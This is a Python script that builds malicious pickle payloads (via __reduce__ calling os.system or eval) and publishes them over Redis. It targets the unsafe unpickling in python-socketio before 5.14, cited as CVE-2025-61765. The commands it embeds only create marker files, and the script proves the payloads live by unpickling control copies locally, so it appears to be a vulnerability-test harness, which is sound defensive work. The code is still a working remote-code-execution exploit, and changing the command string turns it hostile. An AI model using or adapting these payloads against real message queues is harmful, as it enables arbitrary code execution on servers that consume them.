"""Publishes pickles that run a shell command when unpickled by Python's own `pickle.loads`
(what python-socketio before 5.14 did with every message of its queue: CVE-2025-61765).

Usage: evil_pickle.py REDIS_URL MARKER_DIR CONTROL_DIR [CHANNEL]

Every payload would create a file in MARKER_DIR if a consumer unpickled it. To prove that the
payloads are live, each one is first built a second time aiming at CONTROL_DIR and unpickled here
with `pickle.loads`: the control file must appear. Prints {"published": N} (JSON) on success.
"""

import builtins
import json
import os
import pickle
import sys

import redis


class RunsShell:
    """Unpickles as os.system(command)."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


class RunsEval:
    """Unpickles as eval(expression)."""

    def __init__(self, expression):
        self.expression = expression

    def __reduce__(self):
        return (builtins.eval, (self.expression,))


def payloads(directory):
    """(name, pickle bytes) of every attack, each creating its own file in `directory`."""

    def touch(name):
        return "touch " + os.path.join(directory, name)

    def emit(data):
        # The shape of python-socketio 4.x's emit message, with the attack as the data.
        return {"method": "emit", "event": "evil", "data": data, "namespace": "/",
                "room": None, "skip_sid": None, "callback": None, "host_id": "attacker"}

    out = []
    for protocol in (0, 2, 4, 5):
        out.append((f"emit-system-p{protocol}",
                    pickle.dumps(emit(RunsShell(touch(f"emit-system-p{protocol}"))),
                                 protocol=protocol)))
    out.append(("bare-system", pickle.dumps(RunsShell(touch("bare-system")))))
    expression = f"__import__('os').system({touch('emit-eval')!r})"
    out.append(("emit-eval", pickle.dumps(emit(RunsEval(expression)))))
    return out


def main():
    url, marker_dir, control_dir = sys.argv[1:4]
    channel = sys.argv[4] if len(sys.argv) > 4 else "socketio"
    # The payloads are real: unpickled naively, each creates its control file.
    for name, payload in payloads(control_dir):
        pickle.loads(payload)
        if not os.path.exists(os.path.join(control_dir, name)):
            raise SystemExit(f"the {name} payload did not run its command when unpickled")
    r = redis.Redis.from_url(url)
    attacks = payloads(marker_dir)
    for _, payload in attacks:
        r.publish(channel, payload)
    print(json.dumps({"published": len(attacks), "names": [n for n, _ in attacks]}))


if __name__ == "__main__":
    main()
